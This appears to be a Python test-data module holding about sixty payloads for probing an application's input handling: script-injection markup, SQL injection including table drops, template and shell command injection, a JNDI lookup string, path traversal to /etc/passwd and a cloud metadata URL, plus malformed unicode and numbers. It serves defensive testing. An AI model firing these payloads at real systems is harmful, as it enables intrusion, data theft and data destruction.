"""Sixty texts that break careless programs, by what they are aimed at; each carries a mark that is easy to find."""

MARK = "zqx"
"""In every payload that would add markup, a header or a file; nothing of the company's own has it."""

MARKUP = (
    f"<script>{MARK}(1)</script>",
    f"<ScRiPt src=//{MARK}.example></sCrIpT>",
    f'"><img src=x onerror={MARK}(1)>',
    f"'><svg/onload={MARK}(1)>",
    f"</textarea><script>{MARK}(1)</script>",
    f"</title><iframe srcdoc='<script>{MARK}(1)</script>'>",
    f'" autofocus onfocus="{MARK}(1)',
    f"' onmouseover='{MARK}(1)",
    f"javascript:{MARK}(1)",
    f"data:text/html,<script>{MARK}(1)</script>",
    f"[click](javascript:{MARK}(1))",
    f"![x](http://{MARK}.example/x.png)",
    f"<a href='jav&#x09;ascript:{MARK}(1)'>x</a>",
    f"<{MARK}-element onclick={MARK}(1)>",
    f"<base href=//{MARK}.example/><meta http-equiv=refresh content=0;url=//{MARK}.example>",
    f"<style>@import '//{MARK}.example'</style><link rel=stylesheet href=//{MARK}.example>",
    f"<!--><script>{MARK}(1)</script-->",
    f"\\u003cscript\\u003e{MARK}(1)\\u003c/script\\u003e &lt;script&gt;{MARK}(1)&lt;/script&gt;",
    f"<form action=//{MARK}.example><button formaction=//{MARK}.example>x</form>",
    f"]]><script>{MARK}(1)</script><![CDATA[",
)
DATABASE = (
    "' or '1'='1",
    "'; drop table people_person; --",
    "\"; delete from chat_message; --",
    "1) union select handle, name from people_person --",
    "' || (select text from chat_message limit 1) || '",
    "x' and 1=randomblob(100000000) --",
    "%", "_", "\\", "%%%%%%%%%%",
    "'; attach database '/tmp/zqx.db' as a; --",
    ":me", "?1",
)  # fmt: skip
TEMPLATES = (
    "{{ 1337*1337 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${1337*1337}",
    "#{1337*1337}",
    "<%= 1337*1337 %>",
    "{{ config.items() }}{{ request.environ }}",
    "%s%s%s%n%n%x",
    "{0.__class__.__init__.__globals__}",
    "%(password)s",
    "=cmd|'/c calc'!A1",
    "${jndi:ldap://zqx.example/a}",
    "__import__('os').system('touch /tmp/zqx')",
    "$(touch /tmp/zqx)`touch /tmp/zqx`; touch /tmp/zqx | touch /tmp/zqx",
)
PATHS = (
    "../../../../../../tmp/zqx",
    "..%2f..%2f..%2fetc%2fpasswd",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\windows\\win.ini",
    "....//....//etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
)
SIGNS = (
    f"a\r\nX-{MARK}: 1\r\n\r\n<b>{MARK}</b>",
    "nul\x00in the middle",
    "\x00",
    "\x1b[2J\x07\x08\x7f",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "Аna Ruiz\u200b\u2060\ufeff",
    "Z̸̧̡̛a̴̛l̷͝g̴̕o " * 20,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \ud7ff\ufffe\U0010ffff",
    "ﷺ" * 300,
    "A" * 19_999,
    "é" * 60_000,
    "[" * 5_000,
)
FIGURES = ("-1", "1e999", "NaN", "0x10", "９９", "99999999999999999999", "0000-00-00", "9999-12-31", " ")
PAYLOADS = (*MARKUP, *DATABASE, *TEMPLATES, *PATHS, *SIGNS, *FIGURES)
"""All of them: more than sixty."""
